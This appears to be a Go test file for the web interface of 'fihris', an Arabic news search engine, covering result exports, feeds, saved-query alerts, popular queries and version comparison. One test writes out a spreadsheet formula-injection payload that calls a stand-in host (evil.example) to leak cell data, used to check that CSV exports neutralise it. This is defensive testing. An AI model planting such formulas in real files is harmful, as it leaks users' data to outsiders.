package web_test

import (
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"html"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/fihris-search/fihris"
	"github.com/fihris-search/fihris/internal/alert"
	"github.com/fihris-search/fihris/internal/web"
)

// Files and feeds of a search have its hits, in its order.
func TestHitsAsFiles(t *testing.T) {
	h := handler(t)
	want := ids(search(t, "q", "زعنفة"))
	rows := table(t, query("/v1/hits", "q", "زعنفة", "format", "csv"))
	require.Len(t, rows, len(want)+1)
	for i, id := range want {
		assert.Equal(t, []string{fmt.Sprint(i + 1), id}, rows[i+1][:2])
	}
	var got []string
	for line := range strings.Lines(read(t, get(h, query("/v1/hits", "q", "زعنفة", "format", "jsonl")))) {
		var hit struct {
			ID, Title, Passage string
			Rank               int
		}
		require.NoError(t, json.Unmarshal([]byte(line), &hit))
		got = append(got, hit.ID)
		assert.Equal(t, len(got), hit.Rank)
		if hit.ID == "script" {
			assert.Equal(t, scriptTitle, hit.Title)
		}
	}
	assert.Equal(t, want, got)
	assert.Len(t, table(t, query("/v1/hits", "q", "زعنفة", "format", "csv", "limit", "2")), 3)
	for _, address := range []string{query("/v1/hits", "q", "a"), query("/v1/hits", "q", "a", "format", "xls"), query("/v1/hits", "format", "csv"),
		query("/v1/hits", "q", "a", "format", "csv", "limit", "1001"), query("/v1/hits", "q", "a", "format", "csv", "page", "2")} {
		assert.Equal(t, http.StatusBadRequest, get(h, address).StatusCode, address)
	}
}

// feedOf reads a feed of either kind: the IDs, links and titles of its items.
func feedOf(t *testing.T, h http.Handler, address string) (items [][3]string) {
	t.Helper()
	r := get(h, address)
	body := read(t, r)
	require.Equal(t, http.StatusOK, r.StatusCode, "%s: %s", address, body)
	var feed struct {
		Items []struct {
			GUID    string `xml:"guid"`
			Link    string `xml:"link"`
			Title   string `xml:"title"`
			PubDate string `xml:"pubDate"`
		} `xml:"channel>item"`
		Entries []struct {
			ID      string `xml:"id"`
			Title   string `xml:"title"`
			Updated string `xml:"updated"`
			Link    struct {
				Href string `xml:"href,attr"`
			} `xml:"link"`
		} `xml:"entry"`
	}
	require.NoError(t, xml.Unmarshal([]byte(body), &feed), body)
	for _, i := range feed.Items {
		items = append(items, [3]string{i.GUID, i.Link, i.Title})
		if i.PubDate != "" {
			_, err := time.Parse(time.RFC1123Z, i.PubDate)
			assert.NoError(t, err)
		}
	}
	for _, e := range feed.Entries {
		items = append(items, [3]string{e.ID, e.Link.Href, e.Title})
		_, err := time.Parse(time.RFC3339, e.Updated)
		assert.NoError(t, err)
	}
	return items
}

func TestFeeds(t *testing.T) {
	h := handler(t)
	rss := feedOf(t, h, query("/v1/hits", "q", "زعنفة", "format", "rss"))
	require.Len(t, rss, 5)
	assert.Equal(t, rss, feedOf(t, h, query("/v1/hits", "q", "زعنفة", "format", "atom")), "both tell the same")
	seen := map[string]bool{}
	for i, item := range rss {
		assert.False(t, seen[item[0]], "an ID of its own")
		seen[item[0]] = true
		u, err := url.Parse(item[1])
		require.NoError(t, err)
		assert.Equal(t, "example.com", u.Host, "a whole address")
		assert.Equal(t, http.StatusOK, get(h, u.RequestURI()).StatusCode)
		if i == 0 {
			assert.Contains(t, item[1], url.QueryEscape(urlID), "the newest first")
		}
	}
	assert.Contains(t, fmt.Sprint(rss), scriptTitle, "hostile titles are text")
	assert.Empty(t, feedOf(t, h, query("/v1/hits", "q", "زعنفة قعتسزذخ", "format", "rss")), "what has only some of the words was not asked for")
	page := read(t, get(h, query("/", "q", "زعنفة", "source", "وكالة الشراع")))
	for _, format := range []string{"csv", "jsonl", "rss", "atom"} {
		assert.Contains(t, page, "/v1/hits?format="+format+"&amp;q=", "the page leads there")
		if format == "rss" || format == "atom" {
			assert.Contains(t, html.UnescapeString(page), `<link rel="alternate" type="application/`+format+`+xml" title="زعنفة" href="/v1/hits?format=`+format+`&q=زعنفة&source=وكالة+الشراع">`, "readers of feeds find it")
		}
	}
}

// A title that a spreadsheet would run is a text in it.
func TestTablesHoldNoFormulas(t *testing.T) {
	ix, err := fihris.NewMemory(nil)
	require.NoError(t, err)
	defer func() { require.NoError(t, ix.Close()) }()
	hostile := `=HYPERLINK("http://evil.example/?"&A1,"السوق")`
	require.NoError(t, ix.Add(t.Context(), fihris.Article{ID: "-1+2", Title: hostile, Body: "قال التاجر:\n=1+1 السوق", Source: "@رويترز", Author: "+كاتب"}, fihris.Article{ID: "other", Title: "طقس", Body: "المطر غزير."}))
	h := web.New(ix, web.Options{})
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(read(t, get(h, query("/v1/hits", "q", "السوق", "format", "csv"))), "\ufeff"))).ReadAll()
	require.NoError(t, err)
	assert.Equal(t, []string{"'-1+2", "'" + hostile, "'@رويترز"}, rows[1][1:4])
	assert.Contains(t, read(t, get(h, query("/v1/hits", "q", "السوق", "format", "jsonl"))), `"id":"-1+2"`, "JSON has it to the letter")
	for _, address := range []string{
		query("/v1/concordance", "q", "السوق", "format", "csv"), query("/v1/trend", "q", "-السوق سوق", "format", "csv", "per", "year"), query("/v1/keywords", "q", "السوق", "least", "1", "format", "csv"),
	} {
		r := get(h, address)
		body := read(t, r)
		require.Equal(t, http.StatusOK, r.StatusCode, "%s: %s", address, body)
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
		require.NoError(t, err)
		for _, row := range rows {
			for _, cell := range row {
				if _, err := strconv.ParseFloat(cell, 64); err != nil {
					assert.NotRegexp(t, `^[=+\-@\t\r\n]`, cell, address)
				}
			}
		}
	}
}

// The feed of a saved query has what came since it was saved, before and after a run tells it, and is no run itself.
func TestNewsOfAlerts(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "news.idx")
	ix, err := fihris.Create(dir, nil)
	require.NoError(t, err)
	defer func() { require.NoError(t, ix.Close()) }()
	add := func(id, text string) {
		require.NoError(t, ix.Add(t.Context(), fihris.Article{ID: id, Title: text, Body: "."}))
	}
	add("old", "هدنة قديمة")
	book, err := alert.Open(dir, 0)
	require.NoError(t, err)
	_, err = book.Add(t.Context(), ix, "truce", "هدنة", false, time.Now())
	require.NoError(t, err)
	require.NoError(t, book.Close())

	h := web.New(ix, web.Options{Alerts: dir})
	news := func() (out []string) {
		for _, item := range feedOf(t, h, "/v1/news?name=truce&format=atom") {
			out = append(out, strings.TrimPrefix(item[0], "urn:fihris:"))
		}
		return out
	}
	assert.Empty(t, news(), "what was there before is no news")
	add("n1", "هدنة جديدة")
	add("x", "شيء آخر")
	assert.Equal(t, []string{"n1"}, news())
	before, err := os.ReadFile(filepath.Join(dir, "alerts"))
	require.NoError(t, err)
	assert.Equal(t, []string{"n1"}, news(), "reading it changes nothing")
	after, err := os.ReadFile(filepath.Join(dir, "alerts"))
	require.NoError(t, err)
	assert.Equal(t, before, after)

	run := func() []alert.Delivery {
		book, err := alert.Open(dir, time.Second)
		require.NoError(t, err)
		defer func() { require.NoError(t, book.Close()) }()
		told, err := book.Run(t.Context(), ix, nil, time.Now())
		require.NoError(t, err)
		require.NoError(t, book.Acknowledge(told))
		return told
	}
	require.Len(t, run(), 1, "the run tells it all the same")
	assert.Equal(t, []string{"n1"}, news(), "and it stays in the feed")
	add("n2", "هدنة أخرى")
	assert.Equal(t, []string{"n2", "n1"}, news())
	run()
	assert.Equal(t, []string{"n2", "n1"}, news())
	assert.Len(t, feedOf(t, h, "/v1/news?name=truce&limit=1"), 1)
	assert.Equal(t, http.StatusNotFound, get(h, "/v1/news?name=none").StatusCode)
	assert.Contains(t, read(t, get(h, "/v1/alerts")), `"truce"`)
	list := read(t, get(h, "/alerts"))
	assert.Contains(t, list, `<a href="/?q=هدنة&amp;sort=newest"><bdi>هدنة</bdi></a>`, "people read them on a page")
	for _, format := range []string{"rss", "atom"} {
		address := "/v1/news?format=" + format + "&amp;name=truce"
		assert.Contains(t, html.UnescapeString(list), html.UnescapeString(`<link rel="alternate" type="application/`+format+`+xml" title="truce" href="`+address+`">`), "readers of feeds find them")
		assert.Contains(t, list, `<a href="`+address+`"`)
	}
	assert.Contains(t, read(t, get(h, "/help")), `<a href="/alerts">`, "every page leads there")
	empty := web.New(ix, web.Options{Alerts: t.TempDir()})
	assert.Contains(t, read(t, get(empty, "/alerts?lang=en")), "fihris alert add", "who sees none is told how to save one")
	assert.Equal(t, http.StatusNotFound, get(handler(t), "/alerts").StatusCode)
	assert.Equal(t, http.StatusNotFound, get(handler(t), "/v1/alerts").StatusCode, "none are offered unless asked for")
}

// What is asked often is shown only where it was asked for, and where several have asked it.
func TestPopular(t *testing.T) {
	ask := func(h http.Handler, from, q string) {
		r := newRequest("GET", query("/", "q", q))
		r.RemoteAddr = from + ":1"
		require.Equal(t, http.StatusOK, serve(h, r).StatusCode)
	}
	h := web.New(index(t), web.Options{Popular: true})
	start := func(h http.Handler) string { return read(t, get(h, "/")) }
	for range 5 {
		ask(h, "192.0.2.1", "السوق")
		ask(h, "192.0.2.2", "السوق")
		ask(h, "192.0.2.1", "رقم هاتفي 5550100")
	}
	assert.NotContains(t, start(h), `id="asked"`, "two are not several")
	ask(h, "192.0.2.3", "السوق")
	for i := range 3 {
		ask(h, fmt.Sprintf("192.0.2.%d", i), "قعتسزذخ")
	}
	body := start(h)
	assert.Contains(t, body, `id="asked"`)
	assert.Contains(t, body, "<bdi>السوق</bdi></a></li>")
	assert.NotContains(t, body, "5550100")
	assert.NotContains(t, body, "قعتسزذخ", "what finds nothing is not shown")
	for i := range 3000 { // it stays within its bounds
		if i%1000 == 0 {
			ask(h, "192.0.2.9", fmt.Sprintf("السوق OR %d", i))
		}
	}
	off := handler(t)
	for i := range 4 {
		ask(off, fmt.Sprintf("192.0.2.%d", i), "السوق")
	}
	assert.NotContains(t, start(off), `id="asked"`)
	assert.Contains(t, start(off), `id="newest"`)
}

// Digits and the number of hits are choices that the links of a page keep.
func TestChoicesOfAPage(t *testing.T) {
	h := handler(t)
	arab := read(t, get(h, query("/article", "id", urlID, "digits", "arab", "q", "زعنفة")))
	assert.Contains(t, arab, "٣ مايو/أيار ٢٠٢١")
	assert.Contains(t, arab, "٣ مواضع لكلمات البحث")
	assert.Contains(t, arab, "1,250,000", "the article is as it was written")
	assert.Contains(t, arab, `digits=arab`)
	assert.Contains(t, arab, "date    = {2021-05-03}", "references keep 0 to 9")
	few := read(t, get(h, query("/", "q", "السوق المدينة البحر الماء")))
	many := read(t, get(h, query("/", "q", "السوق المدينة البحر الماء", "per", "20")))
	assert.Equal(t, 10, strings.Count(few, `class="hit"`))
	assert.Equal(t, 20, strings.Count(many, `class="hit"`))
	assert.Contains(t, many, "per=20")
	assert.Equal(t, 10, strings.Count(read(t, get(h, query("/", "q", "السوق المدينة البحر الماء", "per", "7"))), `class="hit"`))
}

// From a hit one walks along the list that it is of.
func TestWalkAlongTheList(t *testing.T) {
	h := handler(t)
	list := search(t, "q", "زعنفة", "group", "1")
	all := ids(list)
	at := func(rank int) string {
		return query("/article", "id", all[rank-1], "q", "زعنفة") + "&rank=" + fmt.Sprint(rank)
	}
	for rank := 1; rank <= len(all); rank++ {
		body := read(t, get(h, at(rank)))
		assert.Contains(t, body, fmt.Sprintf("النتيجة %d", rank))
		assert.Equal(t, rank > 1, strings.Contains(body, `<a rel="prev" href="/article?id=`+url.QueryEscape(all[max(rank-2, 0)])), "%d", rank)
		assert.Equal(t, rank < len(all), strings.Contains(body, `<a rel="next" href="/article?`), "%d", rank)
	}
	body := read(t, get(h, query("/article", "id", all[0], "q", "زعنفة", "rank", "3")))
	assert.NotContains(t, body, "النتيجة", "the list is another one by now")
	assert.Equal(t, http.StatusOK, get(h, query("/article", "id", all[0], "q", "زعنفة", "rank", "x")).StatusCode)
}

// Copies stand side by side, with what differs marked and nothing lost.
func TestVersions(t *testing.T) {
	h := handler(t)
	body := read(t, get(h, query("/article", "id", "paper 2")))
	assert.Contains(t, body, "قارن بنسختين أخريين")
	body = read(t, get(h, query("/versions", "id", "wire", "with", "paper 2")))
	assert.Contains(t, body, "<ins>(وكالات)</ins>")
	assert.Contains(t, body, "<del>أسراب </del>")
	assert.Equal(t, 4, strings.Count(body, `<tr class="same">`))
	changes := read(t, get(h, query("/versions", "id", "wire", "with", "paper 2", "changes", "1")))
	assert.Zero(t, strings.Count(changes, `<tr class="same">`))
	assert.Contains(t, changes, "(وكالات)")
	same := read(t, get(h, query("/versions", "id", "wire", "with", "paper 1", "changes", "1")))
	assert.Contains(t, same, "النسختان متطابقتان")
	assert.Contains(t, read(t, get(h, query("/versions", "id", "wire", "with", "paper 1"))), "100%")
	assert.Contains(t, read(t, get(h, query("/versions", "id", "empty"))), "لا نسخ أخرى")
	assert.Equal(t, http.StatusNotFound, get(h, query("/versions", "id", "wire", "with", "none")).StatusCode)
	assert.Equal(t, http.StatusBadRequest, get(h, "/versions").StatusCode)
}
